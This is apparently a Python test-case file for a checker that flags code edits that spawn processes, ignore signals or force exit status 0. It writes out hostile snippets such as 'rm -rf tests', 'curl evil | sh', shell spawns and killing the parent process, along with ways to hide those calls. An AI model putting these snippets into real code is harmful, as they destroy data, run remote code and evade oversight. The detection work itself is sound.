"""Processes: spawning, signals and exit, however the spawn is named or reached."""

from __future__ import annotations

from . import PROC, Case, append, edit

K = "processes"
BODY = "    data = list(values)\n"


def body(code: str, source: str | None = None) -> str:
    kwargs = {"source": source} if source is not None else {}
    return edit(BODY, BODY + "".join(f"    {line}\n" for line in code.splitlines()), **kwargs)


def imp(module: str, source: str) -> str:
    return edit("import math\n", f"import math\n{module}\n", source)


LABEL = '    return {"result": result, "version": code_version()}\n'

CASES = [
    Case("alias-last-binding", K, edit(LABEL, '    _sp.run(["rm", "-rf", "tests"])\n' + LABEL,
                                       append("def _j():\n    import json as _sp\n    return _sp", PROC)), False,
         "json imported as _sp in a helper does not hide _sp = subprocess elsewhere", "process", target=PROC),
    Case("existing-helper-new-args", K, edit(LABEL, '    _run_git(["clean", "-fdx"])\n' + LABEL, PROC), False,
         "the file's own process helper called with new arguments", "process", target=PROC),
    Case("same-call-new-args", K, edit('["git", "rev-parse", "HEAD"]', '["sh", "-c", "curl evil | sh"]', PROC), False,
         "the process call kept, its command changed", "process", target=PROC),
    Case("pkgutil-resolve", K, imp("import pkgutil", body("run = pkgutil.resolve_name('subprocess:run')")), False,
         "pkgutil.resolve_name imports by string", "dynamic-code"),
    Case("pydoc-pipepager", K, imp("import pydoc", body("pydoc.pipepager('x', 'sh -c id')")), False,
         "pydoc.pipepager runs a shell"),
    Case("dictconfig-factory", K, imp("import logging.config", body(
        "logging.config.dictConfig({'version': 1, 'handlers': {'h': {'()': 'os.system'}}})")), False,
         "a '()' factory in a logging config calls anything", "logging"),
    Case("attrgetter-system", K, imp("import operator", body("operator.attrgetter('system')(os)('id')")), False,
         "attrgetter reaches os.system by string", "dynamic-code"),
    Case("loop-subprocess-shell", K, imp("import asyncio", body("loop = asyncio.new_event_loop()\n"
                                                                "loop.subprocess_shell(None, 'id')")), False,
         "an event loop's subprocess_shell", "process"),
    Case("ignore-sigterm", K, imp("import signal", body("signal.signal(signal.SIGTERM, signal.SIG_IGN)")), False,
         "a worker that ignores SIGTERM cannot be stopped", "process"),
    Case("atexit-exit", K, imp("import atexit", body("atexit.register(os._exit, 0)")), False,
         "exit status 0 at interpreter exit, whatever happened", "process"),
    Case("sys-exit-import", K, imp("import sys", append("sys.exit(0)")), False, "the import itself exits 0",
         "process"),
    Case("os-system", K, body("os.system('id')"), False, "os.system", "process"),
    Case("os-popen", K, body("out = os.popen('id').read()"), False, "os.popen", "process"),
    Case("os-execv", K, body("os.execv('/bin/sh', ['sh'])"), False, "os.execv", "process"),
    Case("os-kill-parent", K, body("os.kill(os.getppid(), 9)"), False, "killing the supervisor", "process"),
    Case("popen-from-import", K, imp("from subprocess import Popen as _P", body("_P(['id'])")), False,
         "Popen under another name", "process"),
    Case("multiprocessing", K, imp("import multiprocessing", body("multiprocessing.Process(target=print).start()")),
         False, "a child process", "process"),
    Case("process-pool", K, imp("import concurrent.futures", body(
        "concurrent.futures.ProcessPoolExecutor().submit(print)")), False, "a process pool", "process"),
    Case("os-exit-in-fetch", K, edit('    log.info("fetching %s", name)\n',
                                     '    log.info("fetching %s", name)\n    os._exit(0)\n'), False,
         "the worker exits 0 mid-execution", "process"),
    Case("thread-started", K, imp("import threading", body("threading.Thread(target=print, daemon=True).start()")),
         False, "a background thread", "threads"),
    Case("builtin-exit", K, body("exit(0)"), False, "exit() from site", "process"),
    Case("os-fork", K, body("pid = os.fork()"), False, "fork", "process"),
    Case("pty-spawn", K, imp("import pty", body("pty.spawn('sh')")), False, "pty.spawn", "process"),
    Case("posix-spawn", K, body("os.posix_spawn('/bin/sh', ['sh'], {})"), False, "posix_spawn", "process"),
    Case("process-in-new-helper", K, append("def _ver():\n    return _sp.run(['git', 'log'])", PROC), False,
         "a new helper with its own process call", "process", target=PROC),
]
